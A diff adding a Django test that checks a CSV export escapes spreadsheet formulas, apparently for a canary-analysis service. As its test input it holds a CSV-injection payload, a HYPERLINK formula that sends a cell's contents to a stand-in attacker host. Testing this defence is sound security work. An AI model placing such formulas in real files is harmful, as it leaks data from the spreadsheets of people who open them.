@@ -159,3 +159,28 @@ def test_the_calibration_export_per_cluster_and_engine(
     assert requester.get("/api/v1/canary/plan-measurements").status_code == 403
     assert Client().get("/api/v1/canary/plan-measurements").status_code in (401, 403)
     assert CanaryAnalysis.objects.count() == 2
+
+
+@pytest.mark.django_db
+def test_the_csv_export_does_not_hand_a_spreadsheet_a_formula(
+    rollout: Rollout,
+    personas: Personas,
+    reference: EvalRun,  # noqa: F811
+    engine_like_approved: FakeEngine,  # noqa: F811
+) -> None:
+    """A canary's `cluster` is whatever the team's pipeline sent; an engineer opens the export in a
+    spreadsheet, which runs a cell starting with = + - @ as a formula (CSV injection)."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    analyse(rollout, personas, engine_like_approved, metrics(rollout), cluster=formula)
+    engineer = Client()
+    engineer.force_login(personas.engineer)
+
+    exported = engineer.get("/api/v1/canary/plan-measurements", {"export": "csv"})
+    table = list(csv.DictReader(io.StringIO(exported.content.decode())))
+    assert table
+    for row in table:
+        assert row["cluster"] == "'" + formula  # kept, but as text
+        assert all(not str(cell).startswith(("=", "+", "-", "@")) for cell in row.values())
+    assert float(table[0]["planned"]) > 0  # figures stay numbers
+    body = engineer.get("/api/v1/canary/plan-measurements").json()
+    assert {row["cluster"] for row in body["rows"]} == {formula}  # the JSON is data, as sent
